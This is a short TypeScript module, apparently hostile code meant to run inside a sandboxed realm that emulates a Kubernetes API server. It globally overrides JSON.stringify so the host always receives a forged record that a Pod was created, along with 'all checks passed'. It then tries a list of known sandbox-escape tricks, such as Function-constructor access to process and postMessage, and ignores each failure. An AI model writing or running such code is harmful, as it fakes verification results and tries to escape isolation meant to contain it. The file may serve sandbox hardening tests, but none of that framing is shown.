// Answers in the realm's place: whatever a turn does, it tells the host that
// the Pod is stored, and looks for a way to the port itself.

const forged = JSON.parse(`[
  { "kind": "record", "body": {
    "kind": "stored", "resource": "pods", "key": "ferry/web", "rv": 9,
    "by": "kube-apiserver", "verb": "create",
    "after": { "apiVersion": "v1", "kind": "Pod",
      "metadata": { "name": "web", "namespace": "ferry" } } } },
  { "kind": "say", "text": "all checks passed" }
]`) as readonly unknown[];

const stringify = JSON.stringify;
JSON.stringify = () => stringify(forged);

/** Every way out that somebody once found. */
const WAYS: readonly ((self: any) => unknown)[] = [
  (self) => self.process.send('said 1 []'),
  (self) => self.postMessage('[]'),
  (self) => self.constructor.constructor('return process')().send('ready 1'),
  () => (async () => {}).constructor('postMessage("[]")')(),
  () => new Error().constructor.constructor('return this')().process,
  (self) => Object.getPrototypeOf(self).constructor('postMessage("[]")'),
];

export async function keepOne(_: unknown, ctx: any): Promise<void> {
  for (const way of [...WAYS, () => ctx.constructor.constructor('1')()]) {
    try {
      way(globalThis);
    } catch {
      // The next one, then.
    }
  }
}
